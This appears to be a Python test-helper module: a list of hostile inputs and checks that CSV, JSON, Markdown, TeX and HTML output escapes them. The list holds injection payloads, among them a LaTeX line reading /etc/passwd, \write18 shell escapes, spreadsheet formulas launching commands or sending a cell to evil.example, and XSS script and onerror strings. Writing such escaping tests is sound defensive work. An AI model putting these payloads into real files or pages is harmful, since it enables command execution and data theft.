"""Texts of strangers, each of which some format, page, terminal or spreadsheet would act upon, and checks of these."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

NASTY = (
    "line\n\\input{/etc/passwd}",
    "line\r\n\\immediate\\write18{id}",
    "line\x0b\\write18{id}\x85\\write18{id}\u2028\\write18{id}",
    "$\\write18{id}$ ^^5cwrite18 %",
    "\x1b]0;owned\x07\x1b[2J",
    "\x9b31m\x9d0;owned\x9c",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example?x="&A1)',
    "\t=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "<script>alert(1)</script>",
    "</script><script>window.broken = 1</script>",
    "\"><img src=x onerror='window.broken = 2'>",
    "'`${window.broken = 3}`\\",
    "&lt;script&gt;",
    "{{ 7 * 7 }}{% raw %}",
    "[bold red]loud[/] [click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "`code` **bold** | cell | ~~gone~~",
    "# heading\n\n- list\n\n    code\n\n---",
    "\u202egnp.exe",
    "half \ud800 of one",
    "nul\0",
)
# What LaTeX of ours is made of.
TEX = re.compile(
    r"\\(begin|end|(top|mid|bottom)rule|textbf|underline|usepackage|text(backslash|ascii(circum|tilde)|bar)"
    r"|(up|down|right)arrow|Delta|pm|mu|[gl]eq|circ|times|dagger"
    r"|alpha|beta|gamma|delta|varepsilon|theta|kappa|lambda|rho|sigma|tau|phi|chi)(?![A-Za-z])"
)


def no_formulas(text: str) -> None:
    """No cell of a CSV is calculated by a spreadsheet."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if re.match(r"[=@\t\r\n\uff1d]|[+-].*[(|!]", cell, re.DOTALL)]


def harmless(form: str, shown: str) -> None:
    """What is shown in a format is text, whatever stands in it."""
    shown.encode()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", shown)
    if form == "csv":
        no_formulas(shown)
    elif form == "json":
        json.loads(shown)
    elif form == "md":
        assert not re.sub(r"</?u>", "", shown).count("<")
        assert not re.search(r"(?<!\\)[\[\]`]", shown)
        assert not re.search(r"^ {4}|^---$|^- ", shown, re.MULTILINE)
    elif form == "tex":
        body = "\n".join(line for line in shown.splitlines() if not line.startswith("%"))
        assert not re.search(r"\\[A-Za-z]", TEX.sub("", body))
        assert "^^" not in body


class Tags(HTMLParser):
    """The tags of a page, with the names of their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.found.append((tag, tuple(name for name, _ in attrs)))
